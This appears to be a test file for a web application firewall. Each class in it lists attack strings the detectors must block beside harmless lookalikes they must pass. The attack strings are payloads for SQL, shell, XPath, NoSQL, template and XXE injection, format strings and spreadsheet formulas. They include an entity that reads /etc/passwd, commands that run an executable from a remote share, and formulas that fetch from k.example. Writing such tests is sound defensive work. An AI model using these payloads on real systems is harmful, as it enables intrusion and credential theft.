// What the eighteenth trial showed, each class beside what looks like it and means no harm.
import { test } from 'node:test';
import { detectCode } from '../../../src/guard/decide/waf/detect/code/code.ts';
import { detectDeserialization } from '../../../src/guard/decide/waf/detect/deserialization/deserialization.ts';
import type { Detector } from '../../../src/guard/decide/waf/detect/finding.ts';
import { detectNosql } from '../../../src/guard/decide/waf/detect/nosql/nosql.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectTemplate } from '../../../src/guard/decide/waf/detect/template/template.ts';
import { detectXpath } from '../../../src/guard/decide/waf/detect/xpath/xpath.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { detectXxe } from '../../../src/guard/decide/waf/detect/xxe/xxe.ts';
import { blocks, passes } from './judged.ts';

const classes: readonly [string, Detector, readonly string[], readonly string[]][] = [
  [
    'a word that is an operator or a verb in one dialect names a table or a column in another',
    detectSql,
    [
      "9'; update member set role='owner' where name='kim'-- ",
      "9'; insert into member(name) values('eve')-- ",
      '9; delete from member where id=7 or 1=1',
      '9 and (select length(pass) from member where id=2)=40',
      "9' group by member.id having 5=5-- ",
      "9'; update backup set owner='eve'-- ",
      "9'; insert into offset values(1)-- ",
      "9' and (select count(*) from print)>0-- ",
      "9'; handler member open-- ",
    ],
    [
      'Update: member set sizes are in stock',
      'insert into member folder the new card',
      "the gym's member group by age; escape room at 5",
      'select a table from call center staff',
      'delete from backup, then restore',
      'a member of the group or escape plan',
    ],
  ],
  [
    'EXECUTE AS takes the place of another user',
    detectSql,
    ["9'; execute as login='sa'-- ", "9'; execute as user = 'dbo'; select 1-- ", "9; exec as user='dbo'"],
    ['execute as user requested', "it's best; execute as login allows", 'exec as user of the month'],
  ],
  [
    'a program of Windows is run by its whole path, a service made, and cmd.exe given switches in one word',
    detectShell,
    [
      'x & c:\\windows\\system32\\calc.exe',
      'x && D:\\tools\\k.bat /q',
      'x & \\\\203.0.113.4\\s\\k.exe',
      'x || c:/users/public/k.cmd',
      'x & sc create k binpath= calc',
      'x & sc config spooler binpath= "cmd /c calc" start= auto',
      'x & cmd.exe /v/c "set k=whoami&!k!"',
      'x & cmd /v:on/c dir',
      '/bin/busybox KIM',
    ],
    [
      'Word & C:\\Program Files\\Shop\\',
      'Blocked | C:\\Users\\kim\\setup.exe | quarantined',
      'see C:\\k.exe',
      'drive C: & drive D:\\photos',
      'a=1&path=C:\\photos\\k.png',
      'sc create = scanner, created',
      '/bin/busybox',
      'busybox applets',
    ],
  ],
  [
    'cmdlets that are compared and a path that somebody is told to type are prose',
    detectShell,
    ['a; Start-Process calc', 'type C:\\windows\\win.ini', 'x & type C:\\k.txt'],
    [
      'Start-Process vs Invoke-Item',
      'Invoke-WebRequest or Invoke-RestMethod?',
      'type C:\\ and press Enter',
      'Type C:\\Users in the bar',
    ],
  ],
  [
    'XPath goes on behind a predicate with what a function finds',
    detectXpath,
    ['"] | collection("/db")//* | k["', "x'] | doc('a.xml')//b | c['", "x'] | id('k')/pass | c['"],
    ["notes'] | id(5)", "['a'] | document it", "the key ['b'] | collection of prints"],
  ],
  [
    'a class of Python is made by a hint of JSON-RPC',
    detectDeserialization,
    ['{"__jsonclass__":["subprocess.Popen",["id"]]}', '{"a":[{"__jsonclass__": ["os.system", ["id"]]}]}'],
    ['{"__jsonclass__":["shop.Cart",[]]}', '{"__class__":"Cart","os.name":"linux"}'],
  ],
  [
    'what a formula fetches and takes apart is fetched all the same',
    detectCode,
    ['=FILTERXML(WEBSERVICE("http://k.example/"),"//k")', '=IFERROR(WEBSERVICE("https://k.example/"),"")'],
    ['=FILTERXML(A1,"//k")', '=SUM(WEBSERVICE)', '=IF(A1="","",WEBSERVICE)'],
  ],
  [
    'an entity that is one character is what HTML has anyway',
    detectXxe,
    [
      '<!ENTITY k "&#60;script>">',
      '<!ENTITY k "&#x3c;">',
      '<!ENTITY % k "&#x25;">',
      '<!ENTITY k "&a;&a;">',
      '<!ENTITY k SYSTEM "file:///etc/passwd">',
    ],
    [
      '<!ENTITY nbsp "&#160;">',
      '<!ENTITY nbsp "\u00a0">',
      '<!ENTITY copy "&#xA9;">',
      '<!ENTITY euro "&#8364;"> in XSLT',
    ],
  ],
  [
    'a question with its answers is no dialogue of a page',
    detectXss,
    ['confirm(1)', 'confirm (document.cookie)', 'confirm(y/n);alert(1)'],
    ['confirm (y/n)', 'Please confirm (y/n)?', 'prompt (y/n):'],
  ],
  [
    'what a page knows, the class of a root object and members that the request names are asked for by templates',
    detectTemplate,
    [
      '<%= ENV.to_a %>',
      '#root.class.classLoader',
      '#this.class.forName("java.lang.Runtime")',
      "{{''[request.args.a][request.args.b]}}",
      '{{()[request.form.k]()}}',
      '${sessionScope.user.password}',
      '${header.authorization}',
      '@Html.Raw(System.Environment.GetEnvironmentVariable("PATH"))',
    ],
    [
      '<%= ENV.fetch("RAILS_ENV") %>',
      '#root.class is the root of the list',
      '{{ items[request.args.page] }}',
      '${sessionScope.user.name}',
      '${header.title}',
      '@Html.Raw(Model.Text)',
      'see @System.Environment in the docs',
    ],
  ],
  [
    'queries of ArangoDB and steps of Gremlin go on behind a string',
    detectNosql,
    [
      "kim') FOR u IN users RETURN u //",
      "' || true FOR k IN member RETURN k //",
      "kim' FOR u IN users FILTER u.role == 'owner' REMOVE u IN users //",
      "kim').or(__.has('role')).drop()//",
      "kim')).where(__.out('owns')).valueMap()",
    ],
    [
      "it's for kim in accounts, return by 5",
      "the label 'x' for the in tray",
      "['a', 'b'].filter(__.isNil)",
      "_.map('a').filter(x)",
    ],
  ],
  [
    'the source of a page, the shell of Visual Basic and a command that Tcl opens are reached',
    detectCode,
    ['show_source(__FILE__)', ';highlight_file(__FILE__);', 'Shell("cmd /c dir", 0)', 'exec id [open "|id"]'],
    ['require dirname(__FILE__)', 'Shell("open"), BP ("closed")', '[open "door"]', 'a shell("pasta") dish'],
  ],
  [
    'a controller that is a function of PHP, and a format that C reads its stack by',
    detectCode,
    [
      '_controller=system&command=id',
      '/k?_controller=phpinfo',
      '%n%n%n%n',
      '%s%s%s%s%s%s%s',
      'AAAA%08x.%08x.%08x.%08x',
      '%p %p %p %p',
      'k%7$n',
    ],
    [
      '_controller=App\\\\Controller\\\\Cart::show',
      '_controller=system_status',
      '%h%n%s%n%n%b',
      '%Y-%m-%d %H:%M:%S',
      '%s of %s: %d%%',
      '%1$s has %2$s',
      'progress %p, step %x',
      '10%, 20%, 30%, 40% off',
    ],
  ],
  [
    'what single engines of templates ask for or tell is an attack',
    detectTemplate,
    ['{exp:query sql="select 5"}', '{% get_admin_log 10 as log %}', '%{#application}'],
    ['{exp:channel:entries limit="5"}', '{% get_log as log %}', '%{application}'],
  ],
];

for (const [name, detect, attacks, benign] of classes)
  test(name, () => {
    blocks(detect, attacks);
    passes(detect, benign);
  });
